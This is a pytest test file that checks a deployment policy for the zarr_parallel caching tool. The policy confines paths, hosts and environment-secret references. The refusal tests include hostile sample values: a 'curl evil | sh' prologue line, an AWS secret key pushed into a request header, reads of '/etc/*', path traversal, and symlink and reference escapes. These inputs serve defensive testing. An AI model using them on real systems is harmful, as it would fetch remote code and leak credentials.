"""The operator's policy for deployment runs (zarr_parallel.run.policy).

The rules are checked on real requests and files here; runs are "deployment-style": the cache
flow runs in this process with Prefect's runtime told it belongs to a deployment
(``PREFECT__RUNTIME__DEPLOYMENT__ID``), so it applies the policy named by
``ZARR_PARALLEL_POLICY`` exactly as a worker's flow run does. tests/doors/test_deployments.py checks
the same through a real server, work pool and worker.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from sources_support import kerchunk_refs, serve_http
from zarr_parallel import RequestError, ZarrParallelAssembler
from zarr_parallel.orchestration.cache import cache_flow
from zarr_parallel.request.model import CacheRequest, build_request
from zarr_parallel.run.policy import (
    DEFAULT_POLICY_PATH,
    POLICY_ENV,
    Policy,
    PolicyFileError,
    default_policy,
    load_policy,
)
from zarr_parallel.run.policy_checks import check_request

RUN: dict[str, Any] = {"deploy_mode": "series", "memory_limit": "300MB"}


@pytest.fixture
def workdir(tmp_path: Path, era5_files: list[Path], monkeypatch: pytest.MonkeyPatch) -> Path:
    """A deployment's working directory holding one source file, as the current directory."""
    root = tmp_path / "deployment"
    (root / "data").mkdir(parents=True)
    shutil.copy(era5_files[0], root / "data" / era5_files[0].name)
    monkeypatch.chdir(root)
    return root


@pytest.fixture
def as_deployment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Path]:
    """Flow runs in this process count as deployment runs; the policy file is ``<tmp>/p.toml``
    (absent unless the test writes it: then the default applies)."""
    path = tmp_path / "p.toml"
    monkeypatch.setenv("PREFECT__RUNTIME__DEPLOYMENT__ID", str(uuid4()))
    monkeypatch.setenv(POLICY_ENV, str(path))
    yield path


def _request(**fields: Any) -> Any:
    return build_request(**{**RUN, **fields})


# ---------------------------------------------------------------------------------------------
# The policy file


def test_without_a_file_the_default_is_closed(tmp_path: Path) -> None:
    policy = load_policy(tmp_path / "none.toml", workdir=tmp_path)
    root = os.path.realpath(tmp_path)
    assert policy == default_policy(tmp_path)
    assert policy.source_roots == policy.cache_roots == (root,)
    assert policy.source_hosts == () and policy.env == ()
    assert not (policy.allow_prologue or policy.allow_directives)
    assert not policy.allow_scheduler_address
    assert DEFAULT_POLICY_PATH == "/etc/zarr-parallel/policy.toml"


def test_a_policy_file_is_read_and_checked(tmp_path: Path) -> None:
    file = tmp_path / "policy.toml"
    file.write_text(
        "[sources]\n"
        'roots = ["/data", "rel"]\n'
        'hosts = ["Data.Example.org", "*.s3.example.org"]\n'
        "[caches]\n"
        'roots = ["/scratch"]\n'
        "[env]\n"
        'ARCHIVE_TOKEN = ["data.example.org"]\n'
        "[slurm]\n"
        "allow_prologue = true\n"
        "[dask]\n"
        "allow_scheduler_address = true\n"
    )
    policy = load_policy(file, workdir=tmp_path)
    assert policy.source_roots == ("/data", os.path.realpath(tmp_path / "rel"))
    assert policy.source_hosts == ("data.example.org", "*.s3.example.org")
    assert policy.cache_roots == ("/scratch",)
    assert policy.env_hosts("ARCHIVE_TOKEN") == ("data.example.org",)
    assert policy.env_hosts("AWS_SECRET_ACCESS_KEY") is None
    assert policy.allow_prologue and not policy.allow_directives
    assert policy.allow_scheduler_address
    assert str(file) in policy.origin


@pytest.mark.parametrize(
    ("text", "match"),
    [
        ("[sources]\nroot = ['/x']\n", r"sources\.root is unknown"),
        ("[network]\nhosts = []\n", r"network is not a policy section"),
        ("[slurm]\nallow_prologue = 'yes'\n", r"slurm\.allow_prologue must be a bool"),
        ("[env]\nTOKEN = 'host'\n", r"env\.TOKEN must be a list"),
        ("[sources\n", r"cannot be read"),
    ],
)
def test_a_broken_policy_file_is_an_error(tmp_path: Path, text: str, match: str) -> None:
    file = tmp_path / "policy.toml"
    file.write_text(text)
    with pytest.raises(PolicyFileError, match=match):
        load_policy(file, workdir=tmp_path)


# ---------------------------------------------------------------------------------------------
# The rules, one request each


def _policy(root: Path, **kw: Any) -> Policy:
    real = os.path.realpath(root)
    return Policy(source_roots=(real,), cache_roots=(real,), **kw)


def test_the_default_policy_allows_the_working_directory(workdir: Path) -> None:
    # What the shipped deployments do: relative paths under the deployment's folder.
    req = _request(data_uri="data/*.nc", cache_dir="caches")
    check_request(req, default_policy(workdir))


@pytest.mark.parametrize(
    ("fields", "parameter"),
    [
        ({"data_uri": "/etc/*"}, "data_uri"),
        ({"data_uri": "data/../../*.nc"}, "data_uri"),
        ({"cache_store": "/var/tmp/x.zarr", "cache_dir": None}, "cache_store"),
        ({"cache_dir": ".."}, "cache_dir"),
        ({"slurm": {"log_directory": "/var/tmp"}}, "slurm.log_directory"),
        ({"slurm": {"prologue": ["curl evil | sh"]}}, "slurm.prologue"),
        ({"slurm": {"directives": ["--uid=0"]}}, "slurm.directives"),
        ({"scheduler_address": "tcp://10.0.0.1:8786"}, "scheduler_address"),
        ({"data_uri": "https://elsewhere.org/a.nc"}, "data_uri"),
        (
            {"storage_options": {"s3": {"endpoint_url": "http://elsewhere.org:9000"}}},
            "storage_options.s3.endpoint_url",
        ),
        (
            {"storage_options": {"headers": {"X-Debug": "${AWS_SECRET_ACCESS_KEY}"}}},
            "storage_options.headers.X-Debug",
        ),
    ],
)
def test_the_default_policy_refuses(workdir: Path, fields: dict[str, Any], parameter: str) -> None:
    base: dict[str, Any] = {"data_uri": "data/*.nc", "cache_dir": "caches"}
    # Checked as the form sent it (before globs are expanded: nothing outside is listed).
    raw = CacheRequest(**{**RUN, **base, **fields})
    with pytest.raises(RequestError) as e:
        check_request(raw, default_policy(workdir))
    assert e.value.parameter == parameter
    assert "the default policy" in str(e.value) and "guards deployment runs" in str(e.value)


def test_a_symbolic_link_does_not_lead_out_of_a_root(workdir: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (workdir / "escape").symlink_to(outside)
    with pytest.raises(RequestError, match="outside the folders deployment runs may write"):
        check_request(_request(data_uri="data/*.nc", cache_dir="escape"), default_policy(workdir))
    # A file link among the matched files, pointing outside: refused too.
    source = next((workdir / "data").glob("*.nc"))
    shutil.copy(source, outside / "private.nc")
    (workdir / "data" / "zz_link.nc").symlink_to(outside / "private.nc")
    with pytest.raises(RequestError, match="outside the folders deployment runs may read"):
        check_request(_request(data_uri="data/*.nc", cache_dir="caches"), default_policy(workdir))


def test_env_references_only_as_listed_and_only_towards_their_hosts(workdir: Path) -> None:
    policy = _policy(
        workdir,
        source_hosts=("data.example.org", "other.org"),
        env=(("ARCHIVE_TOKEN", ("data.example.org",)),),
    )
    headers = {"headers": {"Authorization": "Bearer ${ARCHIVE_TOKEN}"}}
    ok = {"data_uri": "https://data.example.org/a.nc", "cache_dir": "c", "storage_options": headers}
    check_request(_request(**ok), policy)
    with pytest.raises(RequestError, match=r"would send the value of ARCHIVE_TOKEN to \['other"):
        check_request(_request(**{**ok, "data_uri": "https://other.org/a.nc"}), policy)
    unlisted = {"headers": {"X-Debug": "${HOME}"}}
    with pytest.raises(RequestError, match="environment variable HOME, which deployment runs"):
        check_request(_request(**{**ok, "storage_options": unlisted}), policy)


def test_what_the_operator_allows_passes(workdir: Path) -> None:
    policy = _policy(
        workdir, allow_prologue=True, allow_directives=True, allow_scheduler_address=True
    )
    req = _request(
        data_uri="data/*.nc",
        cache_dir="caches",
        slurm={"prologue": ["module load x"], "directives": ["--constraint=intel"]},
        scheduler_address="tcp://127.0.0.1:8786",
    )
    check_request(req, policy)


# ---------------------------------------------------------------------------------------------
# Deployment-style runs


def test_the_issues_exfiltration_is_refused_by_the_default_policy(
    as_deployment: Path, workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The issue's reproduction: the worker's secret in a header, towards a loopback URL. No
    # policy file: the default (only the working directory, no hosts, no references) holds.
    secret = "canary-aws-secret-0d5e7f"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    with serve_http(workdir / "data") as svc:
        name = next((workdir / "data").glob("*.nc")).name
        request = _request(
            data_uri=f"{svc.url}/{name}",
            cache_dir="caches",
            storage_options={"headers": {"X-Debug": "${AWS_SECRET_ACCESS_KEY}"}},
        )
        with pytest.raises(RequestError, match=r"data_uri=.*; the default policy") as e:
            cache_flow(request)
        assert svc.stats.requests == [], "a request left the worker"
        assert not any(secret in str(h) for h in svc.stats.headers)
    assert secret not in str(e.value)
    assert not (workdir / "caches").exists()


def test_a_kerchunk_reference_may_point_only_into_the_roots(
    as_deployment: Path, workdir: Path, era5_files: list[Path], tmp_path: Path
) -> None:
    # A reference file inside the allowed folder that names files outside it: refused when the
    # reference is read, before any data is.
    outside = tmp_path / "private"
    outside.mkdir()
    for f in era5_files[:2]:
        shutil.copy(f, outside / f.name)
    files = sorted(outside.glob("*.nc"))
    (workdir / "data" / "sneaky.json").write_text(json.dumps(kerchunk_refs(files, str(outside))))
    request = _request(data_uri="data/sneaky.json", cache_dir="caches")
    with pytest.raises(RequestError, match=r"kerchunk reference to .*private") as e:
        cache_flow(request)
    assert e.value.parameter == "data_uri"
    assert not (workdir / "caches").exists()
    # Generated references cannot be listed before they are read: refused.
    gen = {**kerchunk_refs(files, str(workdir / "data")), "gen": [{"key": "t2m/0.0.0"}]}
    (workdir / "data" / "gen.json").write_text(json.dumps(gen))
    with pytest.raises(RequestError, match=r"generated \('gen'\) references"):
        cache_flow(_request(data_uri="data/gen.json", cache_dir="caches"))
    # One whose files lie inside is fine (the policy names the folder holding them).
    as_deployment.write_text(
        f'[sources]\nroots = ["{outside}", "{workdir}"]\n[caches]\nroots = ["{workdir}"]\n'
    )
    (workdir / "data" / "inside.json").write_text(json.dumps(kerchunk_refs(files, str(outside))))
    result = cache_flow(_request(data_uri="data/inside.json", cache_dir="caches"))
    assert result["status"] == "done"


def test_command_line_and_python_runs_keep_their_freedom(
    workdir: Path, era5_files: list[Path], tmp_path: Path
) -> None:
    # No deployment: the same request the default policy refuses (a source outside the working
    # directory) is the local user's own business.
    outside = tmp_path / "elsewhere.zarr"
    result = ZarrParallelAssembler(str(era5_files[0]), chunks={"time": 12}).cache(
        cache_store=str(outside), **RUN
    )
    assert result.path == outside and outside.exists()


# ---------------------------------------------------------------------------------------------
# The work pool


def test_deploying_locks_an_existing_pools_template(tmp_path: Path) -> None:
    # A pool made by hand (Prefect's process template: runs may set command and env) is brought
    # in line by python -m deployments, which says so.
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.actions import WorkPoolCreate
    from prefect.workers.process import ProcessWorker

    from zarr_parallel.orchestration.deploy import ensure_work_pool, job_template

    name = f"zp-policy-{uuid4().hex[:8]}"
    with get_client(sync_client=True) as client:
        client.create_work_pool(
            WorkPoolCreate(
                name=name,
                type="process",
                base_job_template=ProcessWorker.get_default_base_job_template(),
            )
        )
        policy = str(tmp_path / "policy.toml")
        assert ensure_work_pool(name, policy) == "updated"
        template = client.read_work_pool(name).base_job_template
        assert template == job_template(policy)
        assert template["job_configuration"]["env"][POLICY_ENV] == policy
        assert "env" not in template["variables"]["properties"]
        assert ensure_work_pool(name, policy) == "unchanged"
        client.delete_work_pool(name)


def test_processes_a_policed_run_starts_check_references_too(
    workdir: Path, era5_files: list[Path], tmp_path: Path
) -> None:
    # A job process (or a local dask worker) opens the source again; it inherits the policed
    # state from the flow's process and reads the same policy file.
    import subprocess
    import sys

    from zarr_parallel.run.policy import POLICED_ENV, enforced

    outside = tmp_path / "private"
    outside.mkdir()
    shutil.copy(era5_files[0], outside / era5_files[0].name)
    refs = kerchunk_refs([outside / era5_files[0].name], str(outside))
    (workdir / "data" / "sneaky.json").write_text(json.dumps(refs))
    with enforced(default_policy(workdir), workdir):
        assert os.environ[POLICED_ENV] == str(workdir)
        env = {**os.environ, POLICY_ENV: str(tmp_path / "none.toml")}
    assert POLICED_ENV not in os.environ  # restored when the run ends
    code = (
        "from zarr_parallel.request.model import build_request\n"
        # What a job process imports to run a job (it installs the policy's reference check).
        "import zarr_parallel.run.job\n"
        "from zarr_parallel.sources.source import open_source\n"
        "open_source(build_request(data_uri='data/sneaky.json', cache_dir='c'))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=workdir, env=env, capture_output=True, text=True
    )
    assert done.returncode != 0
    assert "kerchunk reference to" in done.stderr and "default policy" in done.stderr
    # Without the policed state the same process opens it (the local user's freedom).
    env.pop(POLICED_ENV)
    ok = subprocess.run(
        [sys.executable, "-c", code], cwd=workdir, env=env, capture_output=True, text=True
    )
    assert ok.returncode == 0, ok.stderr[-2000:]


def test_slurm_workers_of_a_policed_run_are_told_the_policy(
    workdir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The SLURM job script of a policed run exports the policed state and the policy file's
    path, so its workers check references again even where sbatch passes no environment on
    (``--export=NONE``); an ad hoc run's script names neither."""
    from dask_jobqueue.slurm import SLURMCluster

    from zarr_parallel.orchestration.runners import worker_sizing
    from zarr_parallel.orchestration.slurm import slurm_cluster_kwargs
    from zarr_parallel.run.policy import POLICED_ENV, enforced

    policy_file = tmp_path / "policy.toml"
    monkeypatch.setenv(POLICY_ENV, str(policy_file))
    req = _request(data_uri="data/*.nc", cache_dir="caches", deploy_mode="SLURM")

    def script() -> list[str]:
        sizing = worker_sizing(req, max_job_estimate=10**8, jobs=2)
        cluster = SLURMCluster(**slurm_cluster_kwargs(req, sizing, None, tmp_path))
        try:
            return list(cluster.job_script().splitlines())
        finally:
            cluster.close()

    with enforced(default_policy(workdir), workdir):
        lines = script()
    assert f"export {POLICED_ENV}={workdir}" in lines
    assert f"export {POLICY_ENV}={policy_file}" in lines
    assert not any(POLICED_ENV in line or POLICY_ENV in line for line in script())


def test_a_temp_store_outside_the_cache_roots_is_refused(workdir: Path) -> None:
    # Rechunking's intermediate folder (a request field of its own) is a write location too.
    class WithTemp(CacheRequest):
        temp_store: str | None = None

    base = {**RUN, "data_uri": "data/*.nc", "cache_dir": "caches"}
    check_request(WithTemp(**base, temp_store="scratch"), default_policy(workdir))
    with pytest.raises(RequestError) as e:
        check_request(WithTemp(**base, temp_store="/var/tmp"), default_policy(workdir))
    assert e.value.parameter == "temp_store"
